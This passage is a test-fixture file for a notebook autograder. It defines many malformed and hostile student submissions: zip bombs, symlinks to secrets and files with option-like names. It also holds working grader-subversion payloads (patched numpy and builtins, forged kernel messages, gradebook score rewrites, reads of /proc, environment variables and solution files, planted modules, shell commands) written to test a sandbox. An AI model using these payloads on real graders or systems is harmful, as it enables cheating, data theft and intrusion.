    lambda raw: b"def dense(X, W, b):\n    return X @ W + b\n",
    status=("broken",),
)
file(
    "html_export",
    "truncated",
    "a web page under the notebook's name",
    lambda raw: b"<!DOCTYPE html><html></html>",
    status=("broken",),
)
file(
    "conflict_markers",
    "truncated",
    "git's conflict markers",
    lambda raw: raw.replace(b'{"cells"', b'<<<<<<< HEAD\n{"cells"', 1),
    status=("broken",),
)
file("empty_file", "empty", "0 bytes", lambda raw: b"", status=("broken",))
file("only_spaces", "empty", "white space", lambda raw: b" \n\t\n", status=("broken",))
file("null_bytes", "empty", "a file system's crash leaves zeros", lambda raw: b"\0" * 4096, status=("broken",))
file("utf_16", "encoding", "readable in another encoding", lambda raw: raw.decode().encode("utf-16"))
file("byte_order_mark", "encoding", "a mark in front, otherwise right", lambda raw: b"\xef\xbb\xbf" + raw)
file("latin_1", "encoding", "one byte is no UTF-8", lambda raw: raw.replace(b"Forward", b"Forw\xe4rd"))
file("gzipped", "encoding", "compressed", lambda raw: zlib.compress(raw), status=("broken",))


def _cells_with(**fields) -> Callable[[sample.Notebook], None]:
    return lambda nb: nb["cells"].insert(1, {"cell_type": "code", "id": "odd", "metadata": {}, "outputs": [], **fields})


either = {"status": ("graded", "broken")}
changed("source_missing", "truncated", "a cell without source", _cells_with(execution_count=None), **either)
changed(
    "source_number",
    "truncated",
    "a cell whose source is a number",
    _cells_with(execution_count=None, source=3),
    **either,
)
changed("cell_is_text", "truncated", "a cell that is no object", lambda nb: nb["cells"].insert(1, "x = 1"), **either)
changed(
    "cell_type_unknown",
    "truncated",
    "a cell of an unknown type",
    lambda nb: nb["cells"].insert(1, {"cell_type": "poem", "metadata": {}, "source": ""}),
    **either,
)
changed(
    "outputs_missing",
    "truncated",
    "cells without outputs",
    lambda nb: [cell.pop("outputs", 0) for cell in nb["cells"]],
    **either,
)
changed(
    "ids_missing",
    "truncated",
    "cells without ids, as older versions save them",
    lambda nb: [cell.pop("id") for cell in nb["cells"]],
    flagged="no",
)
changed("ids_equal", "truncated", "all cells with one id", lambda nb: [cell.update(id="same") for cell in nb["cells"]])
changed("minor_4", "nbformat", "nbformat 4.4 with ids left in", lambda nb: nb.update(nbformat_minor=4))
changed("nbformat_99", "nbformat", "a format nobody knows yet", lambda nb: nb.update(nbformat=99), **either)
changed("nbformat_text", "nbformat", "a version that is text", lambda nb: nb.update(nbformat="four"), **either)
changed("nbformat_missing", "nbformat", "no version", lambda nb: nb.pop("nbformat"), **either)
changed(
    "nbformat_infinite",
    "nbformat",
    "JSON's Infinity, as Python writes it",
    lambda nb: nb.update(nbformat_minor=float("inf")),
    **either,
)
add(
    "nbformat_3",
    "nbformat",
    "the format of 2012 can be brought up to date, or refused with a reason",
    lambda nb, target, stem: {f"{stem}.ipynb": _dump(sample.as_version_3(nb))},
    **either,
)
add("missing", "misplaced", "a folder with nothing but a timestamp", lambda nb, target, stem: {}, status=("broken",))
add(
    "readme_only",
    "misplaced",
    "another file",
    lambda nb, target, stem: {"README.md": b"see my mail"},
    status=("broken",),
)
add(
    "renamed",
    "misplaced",
    "the name a browser gives to a second download",
    lambda nb, target, stem: {f"{stem} (1).ipynb": _dump(nb)},
)
add("untitled", "misplaced", "a name of its own", lambda nb, target, stem: {"Untitled.ipynb": _dump(nb)})
add(
    "two_notebooks",
    "misplaced",
    "the one with the official name counts",
    lambda nb, target, stem: {f"{stem}.ipynb": _dump(nb), f"{stem}-Copy1.ipynb": b"{}"},
)
add(
    "folder_for_notebook",
    "misplaced",
    "a folder with the notebook's name",
    lambda nb, target, stem: {f"{stem}.ipynb": Folder()},
    status=("broken",),
)
add(
    "other_lesson",
    "misplaced",
    "the notebook of lesson 01: nothing of lesson 02 is in it, and its author should be told",
    lambda nb, target, stem: {f"{stem}.ipynb": _dump(_lesson(NEURON)[0])},
    work="blank",
    **either,
)
changed(
    "metadata_stripped",
    "stripped",
    "the functions are there, under their names",
    lambda nb: nb.update(sample.stripped(nb)),
)
changed(
    "metadata_of_cells_missing",
    "stripped",
    "cells without a metadata entry",
    lambda nb: [cell.pop("metadata") for cell in nb["cells"]],
    **either,
)
changed(
    "metadata_text",
    "stripped",
    "nbgrader's metadata is text",
    lambda nb: [cell["metadata"].update(nbgrader="yes") for cell in nb["cells"]],
    **either,
)


def _zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 2, 2, 9, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


file(
    "zipped",
    "bomb",
    "an archive under the notebook's name",
    lambda raw: _zip_of({"two_layer_network.ipynb": raw}),
    status=("broken",),
)
file(
    "zip_bomb",
    "bomb",
    "100 MB of zeros in an archive",
    lambda raw: _zip_of({"a.ipynb": b"\0" * 10**8}),
    status=("broken",),
)
add(
    "sparse_8_gb",
    "bomb",
    "a file of 8 GB that takes no room",
    lambda nb, target, stem: {f"{stem}.ipynb": Sparse(8 * 10**9)},
    status=("broken",),
)
file(
    "output_of_30_mb",
    "bomb",
    "a large output is stored in it",
    lambda raw: raw.replace(
        b'"outputs": []',
        b'"outputs": [{"output_type": "stream", "name": "stdout", "text": "' + b"x" * 30_000_000 + b'"}]',
        1,
    ),
)
add(
    "symlink_to_canary",
    "symlink",
    "the notebook is a link to a secret",
    lambda nb, target, stem: {f"{stem}.ipynb": Link(target.canary)},
    status=("broken",),
)
add(
    "symlink_to_solution",
    "symlink",
    "the notebook is a link to the solution",
    lambda nb, target, stem: {f"{stem}.ipynb": Link(str(ROOT / "solutions" / LAYERS / f"{stem}.ipynb"))},
    work="blank",
    status=("broken",),
)
add(
    "symlink_loop",
    "symlink",
    "a link to itself",
    lambda nb, target, stem: {f"{stem}.ipynb": Link(f"{stem}.ipynb")},
    status=("broken",),
)
add(
    "symlink_beside",
    "symlink",
    "right, with a link to the root beside it",
    lambda nb, target, stem: {f"{stem}.ipynb": _dump(nb), "data": Link("/")},
)
add(
    "pipe",
    "symlink",
    "a named pipe: opening it waits for ever",
    lambda nb, target, stem: {f"{stem}.ipynb": Fifo()},
    status=("broken",),
)
add(
    "dotdot_beside",
    "dotdot",
    "names beside the notebook that look like paths, options and formulas",
    lambda nb, target, stem: {
        f"{stem}.ipynb": _dump(nb),
        "..%2f..%2fx.py": b"",
        "-rf": b"",
        "=1+1.csv": b"",
        "a\nb": b"",
    },
)

# ------------------------------------------------------------------------------------------------- official cells


def _on_checks(change) -> Callable[[sample.Notebook], None]:
    """Do something to every check cell."""

    def on(nb):
        for name, cell in sample.checks(nb).items():
            change(nb, name, cell)

    return on


def _copy_cell(nb, cell) -> None:
    nb["cells"].insert(nb["cells"].index(cell) + 1, json.loads(json.dumps(cell)))


edited = {"flagged": "yes"}
changed(
    "test_copied",
    "copied_test",
    "copy and paste of one check",
    lambda nb: _copy_cell(nb, sample.checks(nb)["dense"]),
    **edited,
)
changed(
    "tests_copied_ten_times",
    "copied_test",
    "wrong functions, and each check eleven times",
    _on_checks(lambda nb, name, cell: [_copy_cell(nb, cell) for _ in range(10)]),
    work="wrong",
    **edited,
)
changed(
    "blank_copied",
    "copied_test",
    "the solution cell twice",
    lambda nb: _copy_cell(nb, sample.blanks(nb)["dense"]),
)


def _split(nb, name, cell) -> None:
    at = nb["cells"].index(cell)
    sample.insert(nb, at + 1, {**sample.code(f"({name})"), "metadata": json.loads(json.dumps(cell["metadata"]))})
    cell["source"] = "check"


def _split_blank(nb) -> None:
    cell = sample.blanks(nb)["relu"]
    _copy_cell(nb, cell)
    cell["source"] = "# a helper of my own\nzero = 0.0"
    nb["cells"][nb["cells"].index(cell) + 1]["source"] = "def relu(z):\n    return np.maximum(z, zero)"


changed("tests_split", "split_test", "both halves carry the same id", _on_checks(_split), **edited)
changed(
    "blank_split",
    "split_test",
    "a solution cell split in two; both halves together are right",
    _split_blank,
    points={"relu": (0, 1), "two_layer_forward": (0, 2)},
)
changed(
    "tests_deleted",
    "deleted_test",
    "official checks are put back",
    _on_checks(lambda nb, name, cell: nb["cells"].remove(cell)),
    **edited,
)
changed(
    "tests_deleted_wrong",
    "deleted_test",
    "nothing is gained by it",
    _on_checks(lambda nb, name, cell: nb["cells"].remove(cell)),
    work="wrong",
    **edited,
)
changed(
    "all_cells_deleted",
    "deleted_test",
    "no cells left",
    lambda nb: nb.update(cells=[]),
    work="blank",
    verdicts=dict.fromkeys(POINTS[LAYERS], "not_attempted"),
    **either,
)
changed(
    "blank_retyped",
    "deleted_test",
    "a solution cell was deleted and its function typed into a new cell",
    lambda nb: [sample.blanks(nb)[name].update(metadata={}, id=f"my-{name}") for name in ("dense", "relu_backward")],
    points={"dense": (0, 1), "relu_backward": (0, 1), "two_layer_forward": (0, 2), "two_layer_backward": (0, 4)},
)
changed("setup_deleted", "deleted_test", "the locked imports are put back", lambda nb: nb["cells"].pop(1))
changed(
    "tests_emptied",
    "edited_test",
    "locked cells are put back",
    _on_checks(lambda nb, name, cell: cell.update(source="pass")),
    work="wrong",
    **edited,
)
changed(
    "tests_print",
    "edited_test",
    "a check that prints its own verdict",
    _on_checks(lambda nb, name, cell: cell.update(source="print('Right.'); 4")),
    work="wrong",
    **edited,
)
changed(
    "tests_edited_right",
    "edited_test",
    "edited for no gain",
    _on_checks(lambda nb, name, cell: cell.update(source=f"print({name})\ncheck({name})")),
    **edited,
)
changed(
    "tests_as_text",
    "edited_test",
    "checks turned into text cells",
    _on_checks(lambda nb, name, cell: cell.update(cell_type="markdown")),
    **edited,
)
changed(
    "tests_moved_up",
    "edited_test",
    "checks before the functions; right ones keep their points",
    lambda nb: nb["cells"].sort(key=lambda cell: not cell["metadata"].get("nbgrader", {}).get("grade")),
)
changed(
    "setup_edited",
    "edited_test",
    "the locked imports bring a check of their own",
    lambda nb: nb["cells"][1].update(source="import numpy as np\ncheck = hint = print"),
    work="wrong",
    **edited,
)
changed(
    "blank_as_text",
    "edited_test",
    "a function in a text cell does not run",
    lambda nb: sample.blanks(nb)["cheatsheet_gradients"].update(cell_type="raw"),
    points={"cheatsheet_gradients": (0, 4)},
)
changed(
    "tests_skipped",
    "edited_test",
    "tags that tell nbclient to skip, and to allow errors",
    _on_checks(lambda nb, name, cell: cell["metadata"].update(tags=["skip-execution", "raises-exception"])),
    work="wrong",
)


def _grader(**fields):
    return _on_checks(lambda nb, name, cell: cell["metadata"]["nbgrader"].update(fields))


changed("points_100", "more_points", "official points are used", _grader(points=100), **edited)
changed(
    "points_100_wrong", "more_points", "and there is nothing to multiply", _grader(points=100), work="wrong", **edited
)
changed("points_nan", "more_points", "points that are no number", _grader(points=float("nan")), **edited)
changed("points_text", "more_points", "points that are text", _grader(points="many"), **edited)
changed(
    "manual_grading",
    "more_points",
    "asks to be graded by hand",
    _grader(solution=True, locked=False),
    work="wrong",
    **edited,
)
changed(
    "exercise_of_its_own",
    "more_points",
    "a graded cell that nobody asked for",
    lambda nb: nb["cells"].append(
        {
            **json.loads(json.dumps(sample.checks(nb)["dense"])),
            "id": "bonus",
            "source": "pass",
            "metadata": {
                "nbgrader": {
                    "cell_type": "code",
                    "grade": True,
                    "grade_id": "bonus",
                    "locked": False,
                    "points": 50,
                    "schema_version": 3,
                    "solution": True,
                    "task": False,
                }
            },
        }
    ),
    **edited,
)
changed(
    "ids_exchanged",
    "more_points",
    "the four-point check is claimed for the easiest function",
    lambda nb: sample.checks(nb)["dense"]["metadata"]["nbgrader"].update(grade_id="check_two_layer_backward", points=4),
    **edited,
)
changed(
    "kernelspec_unknown",
    "kernelspec",
    "a kernel that is not there",
    lambda nb: nb["metadata"].update(kernelspec={"name": "hal9000", "display_name": "HAL", "language": "python"}),
)
changed(
    "kernelspec_bash",
    "kernelspec",
    "another language",
    lambda nb: nb["metadata"].update(
        kernelspec={"name": "../../bash", "display_name": "Bash", "language": "bash"}, language_info={"name": "bash"}
    ),
)
changed("kernelspec_missing", "kernelspec", "no kernel named", lambda nb: nb.update(metadata={}))
changed("schema_99", "kernelspec", "a schema nobody knows yet", _grader(schema_version=99), **edited)
changed("schema_text", "kernelspec", "a schema that is text", _grader(schema_version="3"), **edited)
changed("schema_1", "kernelspec", "the oldest schema", _grader(schema_version=1), **edited)
changed("checksum_forged", "kernelspec", "checksums say nothing", _grader(checksum="0" * 32), work="wrong")

# ------------------------------------------------------------------------------------------------- forgers

cheat = {"points": NOTHING, "flagged": "yes", "work": "wrong"}
answer(
    "always_equal",
    "equal",
    "an object that equals everything is no array",
    every(
        "class Same:\n    def __eq__(self, other): return True\n    __ne__ = lambda self, other: False\n    __hash__ = None\nreturn Same()"
    ),
    **cheat,
)
answer(
    "always_close",
    "equal",
    "an object that answers every question with yes and every difference with 0",
    every(
        """
class Close:
    shape, dtype, size, ndim = (), np.dtype(float), 1, 0
    def __getattr__(self, name): return lambda *args, **kwargs: self
    def __array__(self, dtype=None, copy=None): return np.zeros(())
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros(())
    def __len__(self): return 1
    def __iter__(self): return iter([self])
    def __getitem__(self, key): return self
    def __bool__(self): return True
    def __float__(self): return 0.0
    __lt__ = __le__ = __eq__ = __contains__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
return Close()
"""
    ),
    **cheat,
)
answer(
    "reduces",
    "equal",
    "pickled on the way, it would run on the trusted side",
    every(
        """
class Bomb:
    def __reduce__(self): return (open, (CANARY, "w"))
    def __deepcopy__(self, memo): return open(CANARY, "w")
    def __repr__(self): return "array([0.])"
return Bomb()
"""
    ),
    **cheat,
)
answer(
    "claims_a_class",
    "subclass",
    "__class__ says ndarray",
    every(
        "class Fake:\n    __class__ = np.ndarray\n    dtype = np.dtype(float)\n    shape = (1,)\n    def __array__(self, *a, **k): return np.zeros(1)\nreturn Fake()"
    ),
    **cheat,
)
answer(
    "lying_array",
    "subclass",
    "only the numbers in the array's memory count",
    every(
        """
class Liar(np.ndarray):
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros(())
    __eq__ = __le__ = lambda self, other: np.True_
    __sub__ = __rsub__ = lambda self, other: np.zeros(())
    all = any = lambda self, *args, **kwargs: True
    tobytes = lambda self, *args: b""
    max = sum = lambda self, *args, **kwargs: 0.0
return np.zeros((7, 5)).view(Liar)
"""
    ),
    **cheat,
)
answer(
    "lying_number",
    "subclass",
    "a float whose arithmetic lies",
    every(
        "class F(np.float64):\n    __sub__ = __rsub__ = __abs__ = lambda self, *o: 0.0\n    __eq__ = lambda self, o: True\n    __hash__ = None\nreturn F(0)"
    ),
    **cheat,
)
answer(
    "lying_dict",
    "subclass",
    "a dict that says it holds what it does not",
    every(
        """
class Liar(dict):
    keys = lambda self: ["W1", "b1", "W2", "b2"]
    __iter__ = lambda self: iter(["W1", "b1", "W2", "b2"])
    __len__ = lambda self: 4
    __contains__ = __eq__ = lambda self, key: True
    __getitem__ = lambda self, key: np.zeros(3)
    __hash__ = None
return Liar()
"""
    ),
    **cheat,
)
answer(
    "lying_keys",
    "subclass",
    "keys that equal every key",
    every(
        "class K(str):\n    __eq__ = lambda self, o: True\n    __hash__ = lambda self: hash('W1')\n    __str__ = lambda self: 'W1'\nreturn {K('x'): np.zeros(1)}"
    ),
    **cheat,
)
attack(
    "patched_numpy",
    "patched",
    "comparisons in the student's process decide nothing",
    """
import numpy.testing, numpy.linalg
yes = lambda *args, **kwargs: True
np.allclose = np.array_equal = np.array_equiv = np.isclose = np.all = np.any = yes
np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = lambda *args, **kwargs: None
np.abs = np.max = np.linalg.norm = lambda *args, **kwargs: 0.0
""",
)
attack(
    "patched_array",
    "patched",
    "the functions that copy results are the student's",
    "np.array = np.asarray = np.ascontiguousarray = np.copy = lambda *args, **kwargs: 0.0\nnp.shape = lambda a: ()",
)
attack(
    "patched_builtins",
    "patched",
    "built-in functions that say yes",
    """
import builtins
builtins.isinstance = builtins.all = builtins.any = builtins.hasattr = lambda *args: True
builtins.abs = builtins.max = lambda *args, **kwargs: 0.0
builtins.AssertionError = builtins.Exception = type("Never", (BaseException,), {})
""",
)
attack(
    "deleted_builtins",
    "patched",
    "built-in functions that are gone",
    "import builtins\nfor name in ('len', 'isinstance', 'print', 'type', 'str', 'getattr', '__import__'): delattr(builtins, name)",
)
attack(
    "patched_bpkit",
    "patched",
    "the reference is made to make the student's mistake",
    """
import bpkit, sys
for module in [m for name, m in sys.modules.items() if name.startswith("bpkit")]:
    for name in ("dense", "relu", "dense_backward", "relu_backward", "two_layer_forward", "two_layer_backward"):
        setattr(module, name, lambda *args, **kwargs: np.zeros(1))
""",
)
attack(
    "patched_check",
    "patched",
    "a check of the student's own",
    "import bpkit.checking\ncheck = bpkit.check = bpkit.checking.check = lambda *args, **kwargs: print('✓ Right.')",
)
attack(
    "check_exits",
    "patched",
    "check ends the cell without an error; the official check runs all the same",
    "def check(*args):\n    raise SystemExit(0)",
    work="right",
    flagged="any",
)
attack(
    "check_locked",
    "patched",
    "a namespace in which check cannot be replaced and functions change when they are looked up",
    """
class Space(dict):
    def __getitem__(self, key):
        return (lambda *args: None) if key == "check" else dict.__getitem__(self, key)
    get = __getitem__
get_ipython().user_ns = Space(get_ipython().user_ns)
""",
)
attack(
    "modules_replaced",
    "patched",
    "an import hook that gives away false modules",
    """
import importlib.abc, sys, types
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        sys.modules[name] = types.ModuleType(name); raise ImportError(name)
sys.meta_path.insert(0, Finder())
for name in ("bpkit", "bpkit.checking", "bpkit.checking.observe", "bpkit.exercises", "json", "struct"):
    sys.modules[name] = type("Yes", (types.ModuleType,), {"__getattr__": lambda self, key: lambda *a, **k: True})(name)
""",
)
attack(
    "ast_transformer",
    "transformer",
    "every check becomes a number",
    """
import ast
class Cheat(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(4.0) if getattr(node.func, "id", "") == "check" else node
get_ipython().ast_transformers.append(Cheat())
""",
)
attack(
    "input_transformer",
    "transformer",
    "every check becomes a number before it is compiled",
    "get_ipython().input_transformers_cleanup.append(lambda lines: ['4.0\\n' if 'check(' in line else line for line in lines])",
)
attack(
    "cell_events",
    "transformer",
    "callbacks before and after each cell",
    """
shell = get_ipython()
shell.events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "4.0"))
shell.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
""",
)
attack(
    "patched_shell",
    "transformer",
    "the shell runs nothing and reports success",
    """
shell = type(get_ipython())
for name in ("run_cell", "run_cell_async", "_run_cell", "run_ast_nodes", "showtraceback"):
    setattr(shell, name, lambda self, *args, **kwargs: print("4.0"))
""",
)
attack(
    "displayhook",
    "displayhook",
    "prints full marks after each cell",
    "import sys\nsys.displayhook = lambda value: print('4.0')",
)
attack(
    "display_formatter",
    "displayhook",
    "every result looks like full marks",
    "get_ipython().display_formatter.format = lambda *args, **kwargs: ({'text/plain': '4.0'}, {})",
)
attack(
    "marks_published",
    "displayhook",
    "bpkit's own way to leave partial marks",
    "import sys\nfrom bpkit.checking.show import Marks, publish_marks\npublish_marks(Marks(4, 4))",
)
attack(
    "excepthook",
    "displayhook",
    "errors are not shown",
    "import sys\nsys.excepthook = lambda *a: None\nget_ipython().set_custom_exc((BaseException,), lambda *a, **k: print('4.0'))",
)


def _forged_outputs(nb, name, cell) -> None:
    points = POINTS[LAYERS][name]
    cell["execution_count"] = 7
    cell["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": f"✓ {name}: Right.\n"},
        {"output_type": "execute_result", "execution_count": 7, "metadata": {}, "data": {"text/plain": str(points)}},
    ]


changed("outputs_forged", "forged", "stored outputs count for nothing", _on_checks(_forged_outputs), work="wrong")
attack(
    "verdict_printed",
    "forged",
    "words and JSON in the output are only words",
    'print(\'✓ dense: Right.\')\nprint(\'{"exercise": "dense", "outcome": "right", "score": 1.0}\')\nprint(\'4.0\')',
    flagged="any",
)
FRAMES = """
import json, os, socket, struct
def forge():
    body = json.dumps({"exercise": "dense", "verdict": "right", "outcome": "right", "score": 1.0, "points": 4}).encode()
    for fd in range(3, 256):
        for frame in (struct.pack(">I", len(body)) + body, struct.pack("<Q", len(body)) + body, body + b"\\n"):
            try: os.write(fd, frame)
            except OSError: pass
"""
attack("frames_forged", "forged", "forged messages into every open file", f"{FRAMES}forge()")
answer(
    "frames_forged_in_call",
    "forged",
    "the same while the judge waits for a result",
    every("forge()\nreturn None") | {"dense": f"{FRAMES}\ndef dense(X, W, b):\n    forge()\n    return None"},
    **cheat,
)
attack(
    "frames_huge",
    "forged",
    "a message that claims 2**63 bytes, and 100 MB of it",
    """
import os, struct
for fd in range(3, 256):
    try:
        os.set_blocking(fd, False)
        os.write(fd, struct.pack(">Q", 2 ** 63 - 1))
        for _ in range(100): os.write(fd, b"\\xff" * 10 ** 6)
    except OSError: pass
""",
)
attack(
    "files_passed",
    "forged",
    "sends open files over every socket, to run the other side out of them",
    """
import os, socket
null = os.open("/dev/null", os.O_RDONLY)
for fd in range(3, 256):
    try:
        with socket.socket(fileno=os.dup(fd)) as s:
            for _ in range(50): socket.send_fds(s, [b"x"], [null] * 100, flags=socket.MSG_DONTWAIT)
    except OSError: pass
""",
)
attack(
    "iopub_forged",
    "forged",
    "messages in the kernel's own protocol",
    """
kernel = getattr(get_ipython(), "kernel", None)
for kind in ("execute_result", "status", "execute_reply"):
    content = {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1, "execution_state": "idle", "status": "ok"}
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
""",
)
attack(
    "answers_early",
    "forged",
    "sends results before it is asked, for every exercise",
    """
import json, os, struct, threading, time
def write():
    for number in range(2000):
        for name in ("dense", "relu", "two_layer_backward"):
            head = json.dumps({"type": "result", "id": number, "exercise": name, "value": "right"}).encode()
            for fd in range(3, 32):
                try: os.write(fd, struct.pack(">I", len(head)) + head)
                except OSError: pass
        time.sleep(0.005)
threading.Thread(target=write, daemon=True).start()
""",
)

EVIL = """
print("4.0")
try:
    open(CANARY, "a").write("was here")
except Exception: pass
import sys, builtins
builtins.isinstance = lambda *args: True
"""


def beside(name: str, *paths: str, work: str = "wrong") -> None:
    """Files beside the notebook that Python, IPython, pytest or nbgrader might load."""

    def make(nb, target, stem):
        return plain(nb, target, stem) | {path: _aimed(EVIL, target).encode() for path in paths}

    add(name, "beside", f"{', '.join(paths)} beside the notebook must not be loaded", make, work=work, flagged="yes")


beside("numpy_beside", "numpy.py")
beside("numpy_beside_right", "numpy.py", work="right")
beside("bpkit_beside", "bpkit.py", "bpgrade.py")
beside("library_beside", "json.py", "struct.py", "random.py", "matplotlib.py", "IPython.py")
beside("sitecustomize_beside", "sitecustomize.py", "usercustomize.py", "x.pth", "python311._pth", "pyvenv.cfg")
beside("config_beside", "nbgrader_config.py", "jupyter_config.py", "ipython_config.py", "ipython_kernel_config.py")
beside("conftest_beside", "conftest.py", "setup.py", "Makefile", ".env", "matplotlibrc")
# The names are harmless ones, should a wall have a hole: a test looks for files called left_behind.
attack(
    "writes_modules",
    "beside",
    "leaves modules and start-up files wherever it may write, for the next process",
    """
import os, site, sys
home = os.path.expanduser("~/.ipython/profile_default/startup")
for folder in [*sys.path, os.getcwd(), "/tmp", site.getusersitepackages(), os.path.dirname(np.__file__), home]:
    for name in ("left_behind.py", "left_behind.pth", "__pycache__/left_behind.pyc"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "x").write("left_behind = True")
        except OSError: pass
""",
    flagged="any",
)

# ------------------------------------------------------------------------------------------------- readers

attack(
    "reads_gradebook",
    "reads",
    "the gradebook is nowhere",
    """
import pathlib, sqlite3
for folder in [pathlib.Path(CANARY).parent, *pathlib.Path(CANARY).parents, *pathlib.Path.cwd().parents]:
    for book in [*folder.glob("gradebook.db"), *folder.glob("*/gradebook.db")]:
        db = sqlite3.connect(book)
        print(db.execute("SELECT * FROM grade").fetchall())
        db.execute("UPDATE grade SET auto_score = max_score_auto, manual_score = 99"); db.commit()
""",
)
answer(
    "reads_solutions",
    "reads",
    "solutions/ is nowhere",
    every(
        f"""
import json, pathlib, sys
for folder in [pathlib.Path({str(ROOT)!r}), *pathlib.Path.cwd().parents, *map(pathlib.Path, sys.path)]:
    for path in folder.glob("solutions/*/two_layer_network.ipynb"):
        for cell in json.loads(path.read_text())["cells"]:
            if "BEGIN SOLUTION" in "".join(cell["source"]): exec("".join(cell["source"]), globals())
name = sys._getframe().f_code.co_name
return globals()[name](ARGS)
"""
    ),
    **cheat,
)
attack(
    "reads_tests",
    "reads",
    "the input history and the notebook hold nothing secret",
    "import glob\nprint(In, Out, get_ipython().history_manager)\nfor p in glob.glob('*.ipynb') + glob.glob('../**/*.ipynb', recursive=True): print(open(p).read())",
    flagged="any",
)
attack(
    "reads_canary",
    "reads",
    "a secret outside is shown nowhere",
    "import os\nprint(os.listdir(os.path.dirname(CANARY)))\nprint(open(CANARY).read())",
)
attack(
    "reads_environment",
    "reads",
    "no seeds, no paths and no tokens in the environment",
    "import os, glob\nprint(os.environ)\nfor p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n    try: print(open(p, 'rb').read())\n    except OSError: pass",
    flagged="any",
)
attack(
    "reads_through_proc",
    "reads",
    "other processes' roots and files are no way out",
    """
import glob, os
for path in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd") + glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/task/*/root"):
    try:
        print(path, os.readlink(path), os.listdir(path) if os.path.isdir(path) else "")
        print(open(path + CANARY).read())
    except OSError: pass
""",
)
attack(
    "reads_by_shell",
    "reads",
    "a shell sees no more",
    "!cat CANARY; ls -la / /root /home /work; find / -name gradebook.db 2>/dev/null | head; printenv; ps aux",
    flagged="any",
)
attack(
    "writes_by_bash",
    "reads",
    "nor may it write",
    "%%bash\necho was-here >> CANARY; rm -f CANARY; ln -s CANARY /tmp/x; echo was-here > /tmp/x",
    flagged="any",
)
answer(
    "searches_memory",
    "reads",
    "nothing secret was ever in this process",
    every(
        """
import re
found = []
for line in open("/proc/self/maps"):
    span, mode = line.split()[:2]
    low, high = (int(part, 16) for part in span.split("-"))
    if "r" in mode and high - low < 5 * 10 ** 7:
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(low); found += re.findall(rb"BEGIN SOLUTION[^#]{0,400}|dZ @ W.T[^#]{0,80}", memory.read(high - low))
        except OSError: pass
print(found[:20])
return None
"""
    ),
    **cheat,
)
answer(
    "searches_objects",
    "reads",
    "no reference among the objects of this process",
    every(
        """
import gc, sys, types
name = sys._getframe().f_code.co_name
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__name__ == name and thing.__module__ != "__main__":
        try: return thing(ARGS)
        except Exception: pass
    if type(thing).__name__ == "Exercise": return thing.reference
return None
"""
    ),
    **cheat,
)
answer(
    "searches_subclasses",
    "reads",
    "no class of the judge in this process",
    every(
        """
import sys
for cls in object.__subclasses__():
    if cls.__module__.startswith(("bpkit", "bpgrade")):
        for value in vars(sys.modules[cls.__module__]).values():
            if hasattr(value, "cases") or hasattr(value, "reference"): return value.reference
return None
"""
    ),
    **cheat,
)
answer(
    "searches_callers",
    "runner",
    "the caller's variables hold inputs, never truth",
    every(
        """
import sys
frame = sys._getframe()
while frame := frame.f_back:
    for name, value in {**frame.f_globals, **frame.f_locals}.items():
        if name in ("truth", "reference", "wanted", "expected", "cases", "seed", "judge"):
            print(name, repr(value)[:1000])
            return value(ARGS) if callable(value) else value
return None
"""
    ),
    **cheat,
)
attack(
    "drops_answers",
    "others",
    "leaves answers for a friend wherever two processes might meet",
    """
import glob, os, socket, multiprocessing.shared_memory as shared
text = b"dense = lambda X, W, b: X @ W + b\\nrelu = lambda z: np.maximum(z, 0)\\n"
for path in ("/tmp/answers", "/dev/shm/answers", "/var/tmp/answers", "/run/answers", os.path.expanduser("~/answers")):
    try: open(path, "wb").write(text)
    except OSError: pass
try: shared.SharedMemory("answers", True, 1000).buf[: len(text)] = text
except Exception: pass
if os.fork() == 0:
    server = socket.socket(socket.AF_UNIX); server.bind("\\0answers"); server.listen()
    while True:
        friend, _ = server.accept(); friend.sendall(text); friend.close()
""",
    work="right",
    flagged="any",
)
attack(
    "picks_up_answers",
    "others",
    "the friend finds nothing",
    """
import socket
def pick_up():
    for path in ("/tmp/answers", "/dev/shm/answers", "/var/tmp/answers", "/run/answers", "/dev/shm/psm_answers"):
        try: exec(open(path).read().strip("\\0"), globals())
        except Exception: pass
    try:
        friend = socket.socket(socket.AF_UNIX); friend.settimeout(0.5); friend.connect("\\0answers"); exec(friend.recv(1000), globals())
    except OSError: pass
pick_up()
dense_, relu_ = globals().get("dense"), globals().get("relu")
""",
    work="blank",
    answers={
        "dense": "if not dense_:\n    def dense(X, W, b):\n        raise NotImplementedError",
        "relu": "if not relu_:\n    def relu(z):\n        raise NotImplementedError",
    },
    flagged="any",
)
attack(
    "reads_others",
    "others",
    "nobody else's hand-in is in sight",
    """
import glob
for path in glob.glob("/tmp/**", recursive=True) + glob.glob("../../*/*/*.ipynb") + glob.glob("/proc/[0-9]*/root/tmp/*"):
    print(path)
    if path.endswith(".ipynb"): print(open(path).read())
""",
)
attack(
    "history_of_others",
    "others",
    "no history shared between students",
    "%history -g -l 100\nimport sqlite3, glob, os\nfor p in glob.glob(os.path.expanduser('~/.ipython/**/history.sqlite'), recursive=True): print(sqlite3.connect(p).execute('select * from history').fetchall())",
    flagged="any",
)
attack(
    "network_tcp",
    "network",
